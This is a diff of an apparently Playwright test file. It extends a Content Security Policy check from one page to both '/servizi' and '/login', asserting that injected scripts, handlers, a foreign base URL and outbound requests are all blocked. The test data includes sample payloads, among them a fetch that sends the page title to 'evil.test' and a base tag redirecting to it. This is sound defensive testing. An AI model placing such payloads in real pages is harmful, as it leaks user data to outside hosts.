@@ -13,19 +13,20 @@ const foreign = `document.head.append(Object.assign(document.createElement("scri
 const base = `document.head.append(Object.assign(document.createElement("base"), { href: "https://evil.test/" }))`;
 const leak = `fetch("https://evil.test/?" + document.title).catch(() => undefined)`;
 
-test("a public page runs no foreign script and talks to no foreign site", async ({ page, allowErrors }) => {
-  allowErrors(/Content Security Policy|status of 404/);
-  await page.goto("/servizi");
-  for (const [name, what, directive] of [
-    ["a script in the text", inline, "script-src-elem"],
-    ["a handler in the text", handler, "script-src-attr"],
-    ["another site's script", foreign, "script-src-elem"],
-    ["another base of addresses", base, "base-uri"],
-    ["a message to another site", leak, "connect-src"],
-  ] as const) {
-    await test.step(name, async () => {
-      expect(await page.evaluate(refusedBy(what))).toBe(directive);
-      expect(await page.evaluate("window.ran")).toBeUndefined();
-    });
-  }
-});
+for (const path of ["/servizi", "/login"])
+  test(`${path} runs no foreign script and talks to no foreign site`, async ({ page, allowErrors }) => {
+    allowErrors(/Content Security Policy|status of 404/);
+    await page.goto(path);
+    for (const [name, what, directive] of [
+      ["a script in the text", inline, "script-src-elem"],
+      ["a handler in the text", handler, "script-src-attr"],
+      ["another site's script", foreign, "script-src-elem"],
+      ["another base of addresses", base, "base-uri"],
+      ["a message to another site", leak, "connect-src"],
+    ] as const) {
+      await test.step(name, async () => {
+        expect(await page.evaluate(refusedBy(what))).toBe(directive);
+        expect(await page.evaluate("window.ran")).toBeUndefined();
+      });
+    }
+  });
